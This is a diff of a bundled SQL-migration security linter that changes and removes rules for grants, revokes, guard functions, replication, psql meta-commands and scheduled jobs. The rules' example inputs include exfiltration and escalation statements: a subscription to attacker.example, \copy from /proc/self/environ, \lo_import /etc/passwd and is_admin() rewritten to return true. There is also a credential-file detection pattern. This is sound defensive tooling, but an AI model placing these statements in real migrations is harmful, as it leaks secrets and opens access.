+    pg_database_owner: { what: 'owner of the current database', high: true },
+    postgres: { what: 'usually the superuser', high: true },
+    rds_superuser: { what: 'Amazon RDS administrator role', high: true },
+    rds_replication: { what: 'can manage logical replication (Amazon RDS)', high: true },
+    cloudsqlsuperuser: { what: 'Cloud SQL administrator role', high: true },
+    azure_pg_admin: { what: 'Azure administrator role', high: true },
+    supabase_admin: { what: 'Supabase administrator role', high: true },
+};
+/** ' (can read any file …)' for notable roles, '' otherwise. */
+function roleNote(name) {
+    const n = NOTABLE_ROLES[name.toLowerCase()];
+    return n ? { text: ` (${n.what})`, high: n.high } : { text: '', high: false };
+}
+
 ;// CONCATENATED MODULE: ./rules/grant-role.ts
 
 
@@ -48356,7 +46058,7 @@ const grant_role_rule = {
         rationale: 'A member of a role gets all of its privileges. Predefined roles such as pg_read_server_files, pg_write_server_files and ' +
             'pg_execute_server_program reach outside the database (files, shell commands as the server OS user); pg_read_all_data / ' +
             'pg_write_all_data give access to every table; WITH ADMIN OPTION lets the grantee hand the role on. ' +
-            'Revoking membership only reduces access, but it can cut a service off production data: it gates like a grant (lower risk level in the message), except in down migrations.',
+            'Revoking membership only reduces access; it is reported as a warning because it can break the application.',
         fix: 'Grant the narrowest role that works (not a predefined or administrative role), without ADMIN OPTION, and get the grant approved by a security reviewer.',
         examples: {
             bad: [
@@ -48388,7 +46090,7 @@ const grant_role_rule = {
             }
             else {
                 const what = g.opt?.length ? `${[...opts.keys()].map((k) => k.toUpperCase()).join(', ')} OPTION of role` : 'membership in role';
-                report({ message: `Revokes ${what} ${roleText} from ${grantees}${inside(stmt)}${REVOKE_NOTE}.`, severity: revokeSeverity(stmt) });
+                report({ message: `Revokes ${what} ${roleText} from ${grantees}${inside(stmt)} (reduces access).`, severity: 'warning' });
             }
         }
         // ALTER GROUP g ADD/DROP USER u is GRANT/REVOKE g TO/FROM u.
@@ -48401,7 +46103,7 @@ const grant_role_rule = {
                 const members = (o.DefElem.arg?.List?.items ?? []).map(roleName).join(', ');
                 const note = roleNote(group);
                 if (a.action === -1)
-                    report({ message: `Removes ${members} from role ${group}${inside(stmt)}${REVOKE_NOTE}.`, severity: revokeSeverity(stmt) });
+                    report({ message: `Removes ${members} from role ${group}${inside(stmt)} (reduces access).`, severity: 'warning' });
                 else
                     report({ message: `Adds ${members} to role ${group}${note.text}${inside(stmt)}${note.high ? ' (high risk)' : ''}.` });
             }
@@ -48414,7 +46116,7 @@ const grant_role_rule = {
             const admin = /admin option/i.test(ast.with?.value ?? '');
             const revoke = String(ast.to_from ?? '').toUpperCase() === 'FROM';
             if (revoke)
-                report({ message: `Revokes role ${roles.join(', ')} from ${to}${REVOKE_NOTE}.`, severity: revokeSeverity(stmt) });
+                report({ message: `Revokes role ${roles.join(', ')} from ${to} (reduces access).`, severity: 'warning' });
             else
                 report({ message: `Grants role ${roles.join(', ')} to ${to}${admin ? ' with ADMIN OPTION (can grant it to others) (high risk)' : ''}.` });
         }
@@ -48439,7 +46141,7 @@ function textRoleGrant(stmt, report, suffix) {
         report({ message: `Likely: Grants role ${m[2]} to ${m[4]}${m[5] ? ' with ADMIN OPTION' : ''}${high ? ' (high risk)' : ''}${suffix}.` });
     }
     else
-        report({ message: `Likely: Revokes role ${m[2]} from ${m[4]}${REVOKE_NOTE}${suffix}.`, severity: revokeSeverity(stmt) });
+        report({ message: `Likely: Revokes role ${m[2]} from ${m[4]} (reduces access)${suffix}.`, severity: 'warning' });
 }
 /* harmony default export */ const grant_role = (withDynamic(grant_role_rule));
 
@@ -48561,7 +46263,6 @@ const server_file_access_rule = {
 
 
 
-
 const grant_KIND = {
     OBJECT_TABLE: ['table', 'tables'],
     OBJECT_SEQUENCE: ['sequence', 'sequences'],
@@ -48623,7 +46324,7 @@ function pgGrant(stmt, g, report) {
     const to = grantees.join(', ');
     if (!g.is_grant) {
         const opt = g.grant_option ? 'GRANT OPTION FOR ' : '';
-        report({ message: `Revokes ${opt}${privs} on ${what} from ${to}${inside(stmt)}${REVOKE_NOTE}.`, severity: revokeSeverity(stmt) });
+        report({ message: `Revokes ${opt}${privs} on ${what} from ${to}${inside(stmt)} (reduces access: check that nothing still needs it).`, severity: 'warning' });
         return;
     }
     const risks = [];
@@ -48675,7 +46376,7 @@ function textGrant(stmt, report, suffix = UNPARSED) {
     const [, verb, privs, kind, level, , who, go] = m;
     const what = `${kind ? kind.toLowerCase() + ' ' : ''}${level}`;
     if (verb.toLowerCase() === 'revoke') {
-        report({ message: `Likely: Revokes ${privs} on ${what} from ${who}${REVOKE_NOTE}${suffix}.`, severity: revokeSeverity(stmt) });
+        report({ message: `Likely: Revokes ${privs} on ${what} from ${who} (reduces access)${suffix}.`, severity: 'warning' });
         return;
     }
     const risks = mysqlRisks(privs.split(','), level, who, !!go, /^proxy$/i.test(privs.trim()));
@@ -48692,8 +46393,7 @@ const grant_rule = {
         rationale: 'A GRANT widens who can read, change or execute something, usually for good; it needs a reviewer who knows the access model. ' +
             'GRANT … TO PUBLIC gives it to every role that exists or will exist, GRANT ALL gives every privilege (including TRUNCATE, REFERENCES, ' +
             'TRIGGER), WITH GRANT OPTION lets the grantee hand it on, and MySQL ON *.* is server-wide: those are reported as high risk. ' +
-            'REVOKE only narrows access (PostgreSQL and MySQL have no deny rules), but it can cut a service off production data: it gates like a GRANT, ' +
-            'with a lower risk level in the message, except in down migrations (rollback of a grant), where it is a warning.',
+            'REVOKE only narrows access (PostgreSQL and MySQL have no deny rules), so it is a warning: it cannot open a hole, but it can break the application.',
         fix: 'Grant the narrowest privileges to a specific role (not PUBLIC, not ALL, no GRANT OPTION) and have the grant approved by a security reviewer.',
         examples: {
             bad: [
@@ -48728,7 +46428,7 @@ const grant_rule = {
             const who = (ast.user_or_roles ?? []).map(mysqlAccount).join(', ');
             const go = /grant option/i.test(ast.with?.value ?? '');
             if (String(ast.to_from ?? '').toUpperCase() === 'FROM') {
-                report({ message: `Revokes ${privs.join(', ')} on ${kind}${level} from ${who}${REVOKE_NOTE}.`, severity: revokeSeverity(stmt) });
+                report({ message: `Revokes ${privs.join(', ')} on ${kind}${level} from ${who} (reduces access).`, severity: 'warning' });
             }
             else {
                 const risks = mysqlRisks(privs, level, who, go, proxy);
@@ -48747,115 +46447,6 @@ const grant_rule = {
     lexical: [/^(?![^;]*\balter\s+default\s+privileges\b)[^;]*?\b(grant|revoke)\s[^;]*?\bon\b[^;]*?\b(to|from)\b/],
 };
 /* harmony default export */ const grant = (withDynamic(grant_rule));
-
-;// CONCATENATED MODULE: ./rules/guard-function-replaced.ts
-
-
-/**
- * Names that say a function decides access: predicates (`is_admin`, `has_permission`, `can_edit`,
- * `check_access`), `*_authorized`, and the identity helpers row-level security policies call
- * (`auth.uid()`, `current_tenant_id()`). A name is all we know without the database's state.
- */
-const PREFIX = /^(is|has|can|may|check|verify|ensure|assert|require|authori[sz]e|allow|user_has|user_can|user_is)_/;
-const SUFFIX = /_(authori[sz]ed|allowed|permitted|admin|admins|superuser|owner|access|permission|permissions|privilege|privileges|role|roles|member|membership|acl)$/;
-const guard_function_replaced_WORD = /(^|_)(admin|superuser|permission|permissions|privilege|privileges|authori[sz]ation|authori[sz]ed|rls|acl)(_|$)/;
-const IDENTITY = /^(current_(user|tenant|org|organization|account|role|member)\w*|get_current_(user|tenant|org|role)\w*|uid|jwt|role)$/;
-function guardName(full) {
-    const parts = full.toLowerCase().split('.');
-    const base = parts[parts.length - 1];
-    const schema = parts.length > 1 ? parts[parts.length - 2] : '';
-    if (schema === 'auth' && /^(uid|role|jwt|email)$/.test(base))
-        return 'an identity helper that row-level security policies call';
-    if (PREFIX.test(base) || SUFFIX.test(base) || guard_function_replaced_WORD.test(base))
-        return 'its name says it decides access';
-    if (IDENTITY.test(base) && base !== 'role')
-        return 'an identity helper that access checks call';
-    return undefined;
-}
-/** Functions that policies in this file call (CREATE/ALTER POLICY USING / WITH CHECK). */
-function policyFunctions(stmt) {
-    const out = new Set();
-    for (const s of stmt.scope?.statements ?? []) {
-        const p = s.pg?.CreatePolicyStmt ?? s.pg?.AlterPolicyStmt;
-        if (!p)
-            continue;
-        for (const c of pgFunctionCalls({ q: p.qual ?? null, c: p.with_check ?? null }))
-            out.add(c.name);
-    }
-    return out;
-}
-/** Does a branch of the new body return a constant true (every caller passes)? */
-function returnsTrue(stmt, name) {
-    const all = stmt.scope?.statements ?? [];
-    const i = all.indexOf(stmt);
-    if (i < 0)
-        return false;
-    for (let j = i + 1; j < all.length && all[j].nested?.kind === 'function' && all[j].nested?.name === name; j++) {
-        const sel = all[j].pg?.SelectStmt;
-        const t = sel?.targetList;
-        if (!sel || sel.fromClause || sel.whereClause || t?.length !== 1)
-            continue;
-        const c = t[0]?.ResTarget?.val?.A_Const ?? t[0]?.ResTarget?.val?.TypeCast?.arg?.A_Const;
-        if (c?.boolval?.boolval === true || /^(t|true|y|yes|on|1)$/i.test(c?.sval?.sval ?? ''))
-            return true;
-    }
-    return false;
-}
-const guard_function_replaced_rule = {
-    meta: {
-        id: 'guard-function-replaced',
-        category: 'privilege',
-        severity: 'error',
-        summary: 'CREATE OR REPLACE of a function that guards access (is_admin, has_permission, check_*, *_authorized, auth.uid(), functions policies call)',
-        rationale: 'Row-level security policies, SECURITY DEFINER functions and the application call helpers such as is_admin(), has_permission() or ' +
-            'auth.uid() to decide who may see or change what. Replacing the body of such a function changes every check that calls it, with no ' +
-            'GRANT, no ALTER POLICY and no DDL on the tables involved: `CREATE OR REPLACE FUNCTION is_admin() … SELECT true` opens everything. ' +
-            'Without the database state the name (or a policy in the same file calling it) is what tells such a function apart, so every ' +
-            'CREATE OR REPLACE of one is reported, naming the function.',
-        fix: 'Have the new body reviewed against the old one by someone who owns the access model; keep access-check functions in a schema only administrators can change.',
-        examples: {
-            bad: [
-                { sql: 'CREATE OR REPLACE FUNCTION public.is_admin() RETURNS boolean LANGUAGE sql AS $$ SELECT true $$;' },
-                { sql: 'CREATE OR REPLACE FUNCTION has_permission(uid int, perm text) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN RETURN true; END $$;' },
-                { sql: "CREATE OR REPLACE FUNCTION auth.uid() RETURNS uuid LANGUAGE sql AS $$ SELECT '00000000-0000-0000-0000-000000000000'::uuid $$;" },
-                { sql: 'CREATE POLICY p ON docs USING (tenant_matches(tenant_id));\nCREATE OR REPLACE FUNCTION tenant_matches(t int) RETURNS boolean LANGUAGE sql AS $$ SELECT true $$;' },
-            ],
-            good: [
-                { sql: 'CREATE FUNCTION is_admin() RETURNS boolean LANGUAGE sql AS $$ SELECT false $$;' },
-                { sql: 'CREATE OR REPLACE FUNCTION set_updated_at() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.updated_at = now(); RETURN NEW; END $$;' },
-                { sql: 'CREATE FUNCTION is_admin() RETURNS boolean LANGUAGE sql AS $$ SELECT false $$;\nCREATE OR REPLACE FUNCTION is_admin() RETURNS boolean LANGUAGE sql AS $$ SELECT false $$;' },
-            ],
-        },
-    },
-    check(stmt, { report }) {
-        const f = pgNode(stmt, 'CreateFunctionStmt');
-        if (!f?.replace)
-            return;
-        const name = names(f.funcname);
-        const policies = policyFunctions(stmt);
-        const usedByPolicy = [...policies].some((p) => sameName(p, name));
-        const why = usedByPolicy ? 'a row-level security policy in this file calls it' : guardName(name);
-        if (!why)
-            return;
-        // Created by a plain CREATE FUNCTION earlier in this file: nothing pre-existing is replaced.
-        let createdHere = false;
-        for (const s of siblings(stmt, 'before')) {
-            const g = s.pg?.CreateFunctionStmt;
-            if (g && !g.replace && sameName(names(g.funcname), name) && names(g.funcname).split('.').length === name.split('.').length)
-                createdHere = true;
-        }
-        if (createdHere)
-            return;
-        const definer = (f.options ?? []).some((o) => o?.DefElem?.defname === 'security' && o.DefElem.arg?.Boolean?.boolval === true);
-        const yes = returnsTrue(stmt, name);
-        const extra = [definer ? 'it runs as its owner (SECURITY DEFINER)' : '', yes ? 'a branch of the new body returns true unconditionally' : ''].filter(Boolean);
-        report({
-            message: `Replaces function ${name}() (${why}): every policy and check that calls it follows the new body${extra.length ? `; ${extra.join('; ')}` : ''}${inside(stmt)}${yes ? ' (high risk)' : ''}.`,
-        });
-    },
-    lexical: [/\bcreate\s+or\s+replace\s+function\s+[\w."]*\b(is|has|can|check)_\w+\s*\(/],
-};
-/* harmony default export */ const guard_function_replaced = (withDynamic(guard_function_replaced_rule));
 
 ;// CONCATENATED MODULE: ./rules/hardcoded-password.ts
 
@@ -49162,166 +46753,6 @@ const hardcoded_password_rule = {
 };
 /* harmony default export */ const hardcoded_password = (hardcoded_password_rule);
 
-;// CONCATENATED MODULE: ./rules/logical-replication.ts
-
-
-/**
- * libpq connection info, keyword/value or URI form, read as libpq's conninfo_parse does
- * (src/interfaces/libpq/fe-connect.c): `key = value` pairs separated by whitespace, a value either
- * single-quoted (backslash escapes `\'` and `\\`) or unquoted up to whitespace (backslash escapes too).
- * Hand-written: no maintained JavaScript package parses libpq's keyword/value syntax.
- */
-function parseConninfo(s) {
-    const out = {};
-    const t = s.trim();
-    if (/^postgres(ql)?:\/\//i.test(t)) {
-        try {
-            const u = new URL(t.replace(/^postgres(ql)?:/i, 'http:'));
-            if (u.username)
-                out.user = decodeURIComponent(u.username);
-            if (u.password)
-                out.password = decodeURIComponent(u.password);
-            if (u.hostname)
-                out.host = u.hostname;
-            if (u.port)
-                out.port = u.port;
-            const db = decodeURIComponent(u.pathname.replace(/^\//, ''));
-            if (db)
-                out.dbname = db;
-            for (const [k, v] of u.searchParams)
-                out[k] = v;
-        }
-        catch {
-            // not a URL after all: fall through to the key/value reading
-        }
-        if (Object.keys(out).length)
-            return out;
-    }
-    let i = 0;
-    while (i < t.length) {
-        while (i < t.length && /\s/.test(t[i]))
-            i++;
-        const k0 = i;
-        while (i < t.length && t[i] !== '=' && !/\s/.test(t[i]))
-            i++;
-        const key = t.slice(k0, i);
-        while (i < t.length && /\s/.test(t[i]))
-            i++;
-        if (t[i] !== '=')
-            break;
-        i++;
-        while (i < t.length && /\s/.test(t[i]))
-            i++;
-        let val = '';
-        if (t[i] === "'") {
-            i++;
-            while (i < t.length && t[i] !== "'") {
-                if (t[i] === '\\' && i + 1 < t.length)
-                    i++;
-                val += t[i++];
-            }
-            i++;
-        }
-        else {
-            while (i < t.length && !/\s/.test(t[i])) {
-                if (t[i] === '\\' && i + 1 < t.length)
-                    i++;
-                val += t[i++];
-            }
-        }
-        if (key)
-            out[key.toLowerCase()] = val;
-    }
-    return out;
-}
-function where(ci) {
-    const parts = [ci.host ?? ci.hostaddr ? `host ${ci.host ?? ci.hostaddr}` : '', ci.dbname ? `database ${ci.dbname}` : '', ci.user ? `user ${ci.user}` : ''].filter(Boolean);
-    return parts.length ? parts.join(', ') : 'a server named in the connection string';
-}
-function objects(list) {
-    const tables = [];
-    const schemas = [];
-    for (const o of list ?? []) {
-        const p = o?.PublicationObjSpec;
-        if (!p)
-            continue;
-        if (p.pubobjtype === 'PUBLICATIONOBJ_TABLE' || p.pubobjtype === 'PUBLICATIONOBJ_CONTINUATION') {
-            if (p.pubtable?.relation)
-                tables.push(rangeVarName(p.pubtable.relation));
-            else if (p.name)
-                tables.push(p.name);
-        }
-        else if (p.name)
-            schemas.push(p.name);
-        else
-            schemas.push('CURRENT_SCHEMA');
-    }
-    return { tables, schemas };
-}
-function subscription(stmt, verb, name, conninfo, report) {
-    if (conninfo === undefined)
-        return;
-    const ci = parseConninfo(conninfo);
-    const secrets = ci.password ? [ci.password] : undefined;
-    report({
-        message: `${verb} subscription ${name} connecting to ${where(ci)}: the database server opens a replication connection there and applies whatever it sends${ci.password ? '; the connection string holds a hardcoded password (stored in pg_subscription)' : ''}${inside(stmt)}.`,
-        secrets,
-        key: name,
-    });
-}
-const logical_replication_rule = {
-    meta: {
-        id: 'logical-replication',
-        category: 'privilege',
-        severity: 'error',
-        summary: 'Creates or widens a publication (FOR ALL TABLES, FOR TABLE, TABLES IN SCHEMA) or a subscription with a CONNECTION: data leaves or enters the database',
-        rationale: 'A publication makes every change of its tables available to any subscriber that can connect with a replication-capable role: ' +
-            'FOR ALL TABLES includes tables created later, credentials and personal data included. A subscription makes the server connect to another ' +
-            'host and write what it receives into local tables (bypassing triggers and row-level security), and its CONNECTION string is stored in ' +
-            'the catalog, password included. Either is a standing data flow out of (or into) the database set up by a migration.',
-        fix: 'Set up replication as a reviewed operational step with credentials from a secret store; publish only the tables that must be replicated, and get it approved.',
-        examples: {
-            bad: [
-                { sql: 'CREATE PUBLICATION everything FOR ALL TABLES;' },
-                { sql: 'CREATE PUBLICATION p FOR TABLE users, api_keys;' },
-                { sql: 'ALTER PUBLICATION p ADD TABLE secrets;' },
-                { sql: "CREATE SUBSCRIPTION s CONNECTION 'host=attacker.example dbname=x user=r password=hunter22' PUBLICATION p;" },
-                { sql: "ALTER SUBSCRIPTION s CONNECTION 'postgresql://r@replica.example/app';" },
-            ],
-            good: [{ sql: 'DROP PUBLICATION IF EXISTS p;' }, { sql: 'ALTER SUBSCRIPTION s DISABLE;' }, { sql: "COMMENT ON TABLE t IS 'create publication p for all tables';" }],
-        },
-    },
-    check(stmt, { report }) {
-        const pg = stmt.pg;
-        if (!pg)
-            return;
-        const c = pg.CreatePublicationStmt;
-        if (c) {
-            const { tables, schemas } = objects(c.pubobjects);
-            if (c.for_all_tables)
-                report({ message: `Creates publication ${c.pubname} FOR ALL TABLES: every change to every table, present and future, is available to subscribers${inside(stmt)} (high risk).` });
-            else if (tables.length || schemas.length)
-                report({ message: `Creates publication ${c.pubname} for ${[tables.length ? `table${tables.length > 1 ? 's' : ''} ${tables.join(', ')}` : '', schemas.length ? `all tables in schema ${schemas.join(', ')}` : ''].filter(Boolean).join(' and ')}: their changes are available to subscribers${inside(stmt)}.` });
-            else
-                report({ message: `Creates publication ${c.pubname} with no tables yet (tables added later are published)${inside(stmt)}.`, severity: 'warning' });
-        }
-        const a = pg.AlterPublicationStmt;
-        if (a && (a.action === 'AP_AddObjects' || a.action === 'AP_SetObjects') && (a.pubobjects?.length || a.for_all_tables)) {
-            const { tables, schemas } = objects(a.pubobjects);
-            const what = [tables.length ? tables.join(', ') : '', schemas.length ? `all tables in schema ${schemas.join(', ')}` : '', a.for_all_tables ? 'ALL TABLES' : ''].filter(Boolean).join(' and ');
-            report({ message: `${a.action === 'AP_SetObjects' ? 'Sets' : 'Adds'} ${what} ${a.action === 'AP_SetObjects' ? 'as the tables of' : 'to'} publication ${a.pubname}: their changes are available to subscribers${inside(stmt)}.` });
-        }
-        const s = pg.CreateSubscriptionStmt;
-        if (s)
-            subscription(stmt, 'Creates', s.subname, s.conninfo, report);
-        const as = pg.AlterSubscriptionStmt;
-        if (as?.kind === 'ALTER_SUBSCRIPTION_CONNECTION')
-            subscription(stmt, 'Points', as.subname, as.conninfo, report);
-    },
-    lexical: [/\bcreate\s+publication\b[^;]*\bfor\b/, /\balter\s+publication\b[^;]*\b(add|set)\s+(table|tables)\b/, /\b(create|alter)\s+subscription\b[^;]*\bconnection\b/],
-};
-/* harmony default export */ const logical_replication = (withDynamic(logical_replication_rule));
-
 ;// CONCATENATED MODULE: ./rules/migration-modified.ts
 
 // Flyway repeatable migrations (R__) are meant to be edited: they re-run when their checksum changes.
@@ -49625,19 +47056,9 @@ function psql_meta_command_classify({ cmd, args }) {
     if (c === 'copy') {
         if (/\bprogram\b/i.test(a))
             return { message: `psql \`${shown}\` runs a program on the machine applying the migration.` };
-        // psql's \copy: `… from|to stdin|stdout|pstdin|pstdout` use psql's own streams, anything else is a file
-        // (https://www.postgresql.org/docs/current/app-psql.html#APP-PSQL-META-COMMANDS-COPY).
-        // `\copy (SELECT … FROM t) TO 'f'`: the query's own FROM is not the direction.
-        const rest = a.replace(/^\s*\((?:[^()']|'[^']*'|\((?:[^()']|'[^']*')*\))*\)/, ' ');
-        const dir = /\b(from|to)\s+(stdin|stdout|pstdin|pstdout|'[^']*'|"[^"]*"|\S+)/i.exec(rest);
-        if (dir && /^(stdin|stdout|pstdin|pstdout)$/i.test(dir[2]))
+        if (/\b(from|to)\s+(stdin|stdout|pstdin|pstdout)\b/i.test(a))
             return undefined;
-        const file = dir?.[2].replace(/^['"]|['"]$/g, '') ?? '';
-        const reading = dir?.[1].toLowerCase() === 'from';
-        const sensitive = /^\/(proc|sys|dev)\/|^\/etc\/|^~|\.(pgpass|env|ssh|aws|kube|netrc|git-credentials)\b|id_[rd]sa|\.pem$|\.key$/i.test(file);
-        return {
-            message: `psql \`${shown}\` ${reading ? 'reads a file from' : 'writes a file on'} the machine applying the migration${reading ? ' into the database' : ''}${sensitive ? ` (${file} holds the environment, credentials or system files: high risk)` : ''}.`,
-        };
+        return { message: `psql \`${shown}\` reads or writes a file on the machine applying the migration.`, severity: 'warning' };
     }
     if (c === 'i' || c === 'ir' || c === 'include' || c === 'include_relative')
         return { message: `psql \`${shown}\` includes SQL from another file that this review does not see.` };
@@ -49654,16 +47075,10 @@ function psql_meta_command_classify({ cmd, args }) {
         }
         return { message: `psql \`${shown}\` writes output to a file on the machine applying the migration.` };
     }
-    if (c === 'lo_import')
-        return { message: `psql \`${shown}\` reads a file from the machine applying the migration into a large object in the database.` };
-    if (c === 'lo_export')
-        return { message: `psql \`${shown}\` writes a large object to a file on the machine applying the migration.` };
-    if (c === 'connect' || c === 'c') {
-        // `\c` with no argument reconnects with the same database, user, host and port.
-        if (!a)
-            return undefined;
-        return { message: `psql \`${shown}\` connects again mid-migration, possibly as another user or to another database or host: the statements that follow run with that identity.` };
-    }
+    if (c === 'lo_import' || c === 'lo_export')
+        return { message: `psql \`${shown}\` reads or writes a file on the machine applying the migration.`, severity: 'warning' };
+    if (c === 'connect' || c === 'c')
+        return { message: `psql \`${shown}\` switches database or user mid-migration.`, severity: 'warning' };
     if (c === 'setenv')
         return { message: `psql \`${shown}\` changes the environment of later shell commands.`, severity: 'warning' };
     if (c === 'e' || c === 'edit' || c === 'ef' || c === 'ev')
@@ -49754,11 +47169,9 @@ const psql_meta_command_rule = {
         id: 'psql-meta-command',
         category: 'execution',
         severity: 'error',
-        summary: 'psql (or mysql client) command that runs a shell command, reads or writes files (\\copy, \\lo_import, \\o), switches identity (\\connect), includes other SQL or executes query results',
+        summary: 'psql (or mysql client) command that runs a shell command, reads or writes files, includes other SQL or executes query results',
         rationale: 'When a migration is applied with psql, `\\!` and backquoted arguments run shell commands on the deploy machine, `\\copy … program` runs a program, ' +
-            '`\\i`/`\\ir` include SQL that this review did not see, `\\o`/`\\g file`/`\\w` write files or pipes and `\\gexec` executes query results as SQL; ' +
-            '`\\copy … from/to` a file and `\\lo_import`/`\\lo_export` move files between the deploy machine and the database (`\\copy t from \'/proc/self/environ\'` loads the deploy ' +
-            'environment, secrets included), and `\\connect`/`\\c` switches to another user, database or host mid-migration. ' +
+            '`\\i`/`\\ir` include SQL that this review did not see, `\\o`/`\\g file`/`\\w` write files or pipes and `\\gexec` executes query results as SQL. ' +
             'psql treats a backslash anywhere outside quotes as a command, not only at the start of a line. The mysql client has `\\!`/`system` and `\\.`/`source`.',
         fix: 'Remove the meta-command; migrations should be plain SQL. Include files explicitly in the review if you must.',
         examples: {
@@ -49769,11 +47182,6 @@ const psql_meta_command_rule = {
                 { sql: "SELECT 'CREATE DATABASE x' WHERE NOT EXISTS (SELECT 1) \\gexec\n" },
                 { sql: 'CREATE TABLE t (id int);\n\\set x `id`\n' },
                 { sql: 'system rm -rf /tmp/x\nCREATE TABLE t (id int);', dialect: 'mysql' },
-                { sql: "CREATE TABLE env (line text);\n\\copy env from '/proc/self/environ'\n" },
-                { sql: "\\copy users to '/tmp/users.csv' csv\n" },
-                { sql: "\\lo_import '/etc/passwd'\n" },
-                { sql: '\\connect postgres postgres\nALTER ROLE app SUPERUSER;\n' },
-                { sql: '\\c - admin\n' },
             ],
             good: [
                 { sql: "SELECT '\\i not a command';" },
@@ -49782,8 +47190,6 @@ const psql_meta_command_rule = {
                 { sql: "DO $body$ BEGIN RAISE NOTICE '\\i x'; END $body$;" },
                 { sql: "SELECT E'it\\'s \\\\! fine';" },
                 { sql: 'SELECT 1 \\g\n' },
-                { sql: 'COPY t FROM stdin;\n1\n\\.\n' },
-                { sql: '\\copy t from stdin\n' },
             ],
         },
     },
@@ -49816,7 +47222,7 @@ const psql_meta_command_rule = {
 ;// CONCATENATED MODULE: ./rules/python-dynamic-sql.ts
 
 const ALEMBIC = 'migrations/versions/1a2b3c4d_example.py';
-const python_dynamic_sql_HEAD = "from alembic import op\nrevision = '1a2b3c4d'\ndown_revision = None\n";
+const HEAD = "from alembic import op\nrevision = '1a2b3c4d'\ndown_revision = None\n";
 const python_dynamic_sql_rule = {
     meta: {
         id: 'python-dynamic-sql',
@@ -49830,13 +47236,13 @@ const python_dynamic_sql_rule = {
         fix: 'Write the SQL as a literal (one statement per op.execute), use bind parameters for values, or have a reviewer confirm what it can produce.',
         examples: {
             bad: [
-                { path: ALEMBIC, sql: python_dynamic_sql_HEAD + 'def upgrade():\n    t = "users"\n    for x in ["a", "b"]:\n        op.execute(f"DROP TABLE {x}")\n' },
-                { path: ALEMBIC, sql: python_dynamic_sql_HEAD + 'def upgrade():\n    conn = op.get_bind()\n    conn.execute("DELETE FROM %s" % table_name)\n' },
-                { path: ALEMBIC, sql: python_dynamic_sql_HEAD + 'from somewhere import SQL\n\ndef upgrade():\n    op.execute(SQL)\n' },
+                { path: ALEMBIC, sql: HEAD + 'def upgrade():\n    t = "users"\n    for x in ["a", "b"]:\n        op.execute(f"DROP TABLE {x}")\n' },
+                { path: ALEMBIC, sql: HEAD + 'def upgrade():\n    conn = op.get_bind()\n    conn.execute("DELETE FROM %s" % table_name)\n' },
+                { path: ALEMBIC, sql: HEAD + 'from somewhere import SQL\n\ndef upgrade():\n    op.execute(SQL)\n' },
             ],
             good: [
-                { path: ALEMBIC, sql: python_dynamic_sql_HEAD + 'def upgrade():\n    op.execute("UPDATE t SET a = 1 WHERE b = 2")\n' },
-                { path: ALEMBIC, sql: python_dynamic_sql_HEAD + 'T = "accounts"\n\ndef upgrade():\n    op.execute("UPDATE " + T + " SET a = 1 WHERE id = :id")\n' },
+                { path: ALEMBIC, sql: HEAD + 'def upgrade():\n    op.execute("UPDATE t SET a = 1 WHERE b = 2")\n' },
+                { path: ALEMBIC, sql: HEAD + 'T = "accounts"\n\ndef upgrade():\n    op.execute("UPDATE " + T + " SET a = 1 WHERE id = :id")\n' },
             ],
         },
     },
@@ -50247,63 +47653,6 @@ function textRole(stmt, report, suffix = '') {
 }
 /* harmony default export */ const role_attributes = (withDynamic(role_attributes_rule));
 
-;// CONCATENATED MODULE: ./rules/scheduled-job.ts
-
-
-
-const scheduled_job_rule = {
-    meta: {
-        id: 'scheduled-job',
-        category: 'execution',
-        severity: 'error',
-        summary: 'Schedules SQL to run later and repeatedly: pg_cron cron.schedule / schedule_in_database / alter_job, MySQL CREATE/ALTER EVENT',
-        rationale: 'A scheduled job keeps running after the migration, as the role that scheduled it (cron.schedule_in_database can name another role ' +
-            'and database): it is code that outlives the review, runs without a deploy and is easy to miss. The SQL of a pg_cron job given as a ' +
-            'constant is analyzed by every other rule (a job that deletes rows is reported as such, inside the job); SQL built at run time cannot be ' +
-            'checked. MySQL events (CREATE EVENT … DO) are the same.',
-        fix: 'Schedule jobs as a reviewed operational step, or keep the job’s SQL minimal and get it approved.',
-        examples: {
-            bad: [
-                { sql: "SELECT cron.schedule('purge', '0 3 * * *', $$DELETE FROM events WHERE created_at < now() - interval '30 days'$$);" },
-                { sql: "SELECT cron.schedule_in_database('x', '* * * * *', 'SELECT 1', 'postgres', 'postgres');" },
-                { sql: "DO $$ BEGIN PERFORM cron.schedule('*/5 * * * *', 'CALL refresh()'); END $$;" },
-                { sql: "SELECT cron.schedule('j', '@daily', 'SELECT ' || quote_ident(current_user));" },
-                { sql: 'CREATE EVENT purge ON SCHEDULE EVERY 1 DAY DO DELETE FROM sessions;', dialect: 'mysql' },
-            ],
-            good: [{ sql: "SELECT cron.unschedule('purge');" }, { sql: "INSERT INTO schedule (name) VALUES ('x');" }, { sql: 'DROP EVENT IF EXISTS purge;', dialect: 'mysql' }],
-        },
-    },
-    check(stmt, { report }) {
-        if (stmt.pg && /schedule|alter_job/i.test(stmt.text)) {
-            for (const c of cronCalls(stmt.pg)) {
-                const sql = constString(c.command);
-                const job = c.job ? ` ${c.job}` : '';
-                const what = sql !== undefined
-                    ? `runs \`${sql.replace(/\s+/g, ' ').trim().slice(0, 80)}${sql.length > 80 ? '…' : ''}\` on its schedule (its statements are analyzed as part of the job)`
-                    : c.command === undefined
-                        ? 'changes the job'
-                        : 'runs SQL built at run time on its schedule: what it does cannot be checked';
-                report({ message: `${c.fn}()${job} ${what}${inside(stmt)}.`, offset: nodeOffset(stmt, c.location), key: `${c.fn}:${c.job ?? ''}` });
-            }
-        }
-        if (stmt.ast && /^(create|alter)\s+(definer\s*=\s*\S+\s+)?event\s/.test(stmt.lexical))
-            textEvent(stmt, report, '');
-    },
-    unparsed(stmt, { report }) {
-        textEvent(stmt, report, UNPARSED);
-    },
-    lexical: [/\bcron\s*\.\s*(schedule|schedule_in_database|alter_job)\s*\(/, /^(create|alter)\s+(definer\s*=\s*\S+\s+)?event\s/],
-};
-function textEvent(stmt, report, suffix) {
-    const t = folded(stmt);
-    const m = /^(create|alter)\s+(?:definer\s*=\s*\S+\s+)?event\s+(?:if\s+not\s+exists\s+)?(\S+)[\s\S]*?\bdo\s+([\s\S]*)$/i.exec(t);
-    if (m)
